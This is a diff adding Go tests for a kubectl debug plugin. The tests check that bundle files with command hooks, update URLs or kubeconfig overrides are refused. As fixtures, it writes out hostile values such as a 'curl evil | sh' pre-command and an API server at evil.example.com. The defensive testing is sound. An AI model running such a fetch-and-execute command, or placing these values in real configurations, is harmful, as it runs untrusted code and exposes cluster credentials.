@@ -0,0 +1,108 @@
+package plugin
+
+import (
+	"io/ioutil"
+	"os"
+	"strings"
+	"testing"
+
+	"github.com/spf13/pflag"
+	"k8s.io/cli-runtime/pkg/genericclioptions"
+)
+
+const testBundle = "version: 1\nimage: nicolaka/netshoot@" + testDigest + "\n"
+
+func writeBundle(t *testing.T, content string) string {
+	file, err := ioutil.TempFile("", "kubectl-debug-bundle")
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer file.Close()
+	if _, err := file.WriteString(content); err != nil {
+		t.Fatal(err)
+	}
+	return file.Name()
+}
+
+func TestLoadBundleHooks(t *testing.T) {
+	tests := []struct {
+		name  string
+		extra string
+		hooks string
+	}{
+		{name: "plain bundle", extra: "defaults:\n  quiet-pull: \"true\"\n"},
+		{name: "pre_command", extra: "pre_command: [\"sh\", \"-c\", \"curl evil | sh\"]\n", hooks: "pre_command"},
+		{name: "post_command", extra: "post_command: [\"true\"]\n", hooks: "post_command"},
+		{name: "ssh_bastion", extra: "ssh_bastion:\n  host: bastion.example.com\n  user: ops\n", hooks: "ssh_bastion"},
+		{name: "update_url", extra: "update_url: https://example.com/latest.json\n", hooks: "update_url"},
+		{name: "agent url template default", extra: "defaults:\n  agent-url-template: https://example.com/\n", hooks: "defaults.agent-url-template"},
+		{name: "local exec default", extra: "defaults:\n  local-exec: \"true\"\n", hooks: "defaults.local-exec"},
+		{name: "agent image default", extra: "defaults:\n  agent-image: evil/agent\n", hooks: "defaults.agent-image"},
+		{name: "agent port", extra: "agent_port: 10028\n", hooks: "agent_port"},
+		{name: "hook in a timeout profile", extra: "timeout_profiles:\n  ci:\n    save-logs: /tmp/logs\n", hooks: "timeout_profiles.ci.save-logs"},
+	}
+	for _, test := range tests {
+		path := writeBundle(t, testBundle+test.extra)
+		defer os.Remove(path)
+
+		_, err := LoadBundle(path, false)
+		if len(test.hooks) < 1 {
+			if err != nil {
+				t.Errorf("%s: unexpected error %v", test.name, err)
+			}
+			continue
+		}
+		if err == nil || !strings.Contains(err.Error(), test.hooks) || !strings.Contains(err.Error(), "--allow-bundle-hooks") {
+			t.Errorf("%s: got %v, want the bundle refused for %s", test.name, err, test.hooks)
+		}
+		if _, err := LoadBundle(path, true); err != nil {
+			t.Errorf("%s: unexpected error with --allow-bundle-hooks: %v", test.name, err)
+		}
+	}
+}
+
+// TestLoadBundleRefusesKubeconfigFlags checks that a bundle cannot point the plugin at
+// another api server, which would receive the credentials of the user
+func TestLoadBundleRefusesKubeconfigFlags(t *testing.T) {
+	tests := []struct {
+		name    string
+		extra   string
+		refused string
+	}{
+		{name: "server", extra: "defaults:\n  server: https://evil.example.com\n", refused: "defaults.server"},
+		{name: "token", extra: "defaults:\n  token: abc\n", refused: "defaults.token"},
+		{name: "insecure", extra: "defaults:\n  insecure-skip-tls-verify: \"true\"\n", refused: "defaults.insecure-skip-tls-verify"},
+		{name: "kubeconfig", extra: "defaults:\n  kubeconfig: /tmp/evil\n", refused: "defaults.kubeconfig"},
+		{name: "unpinned image", extra: "defaults:\n  image: evil/image\n", refused: "defaults.image"},
+		{name: "server in a timeout profile", extra: "timeout_profiles:\n  ci:\n    server: https://evil.example.com\n", refused: "timeout_profiles.ci.server"},
+	}
+	for _, test := range tests {
+		path := writeBundle(t, testBundle+test.extra)
+		defer os.Remove(path)
+
+		for _, allowHooks := range []bool{false, true} {
+			_, err := LoadBundle(path, allowHooks)
+			if err == nil || !strings.Contains(err.Error(), test.refused) || !strings.Contains(err.Error(), "may not set") {
+				t.Errorf("%s: got %v with allowHooks=%v, want the bundle refused for %s", test.name, err, allowHooks, test.refused)
+			}
+		}
+	}
+}
+
+// TestBundleFlagsExist keeps the lists of the bundle flags in line with the flags of the
+// command, and checks that none of them is a kubeconfig flag
+func TestBundleFlagsExist(t *testing.T) {
+	cmd := NewDebugCmd(genericclioptions.NewTestIOStreamsDiscard())
+	kubeconfigFlags := pflag.NewFlagSet("kubeconfig", pflag.ContinueOnError)
+	genericclioptions.NewConfigFlags(false).AddFlags(kubeconfigFlags)
+	for _, flags := range []map[string]bool{bundleFlags, bundleHookFlags} {
+		for name := range flags {
+			if cmd.Flags().Lookup(name) == nil && cmd.PersistentFlags().Lookup(name) == nil {
+				t.Errorf("bundle flag %s is not a flag of the command", name)
+			}
+			if kubeconfigFlags.Lookup(name) != nil {
+				t.Errorf("bundle flag %s is a kubeconfig flag", name)
+			}
+		}
+	}
+}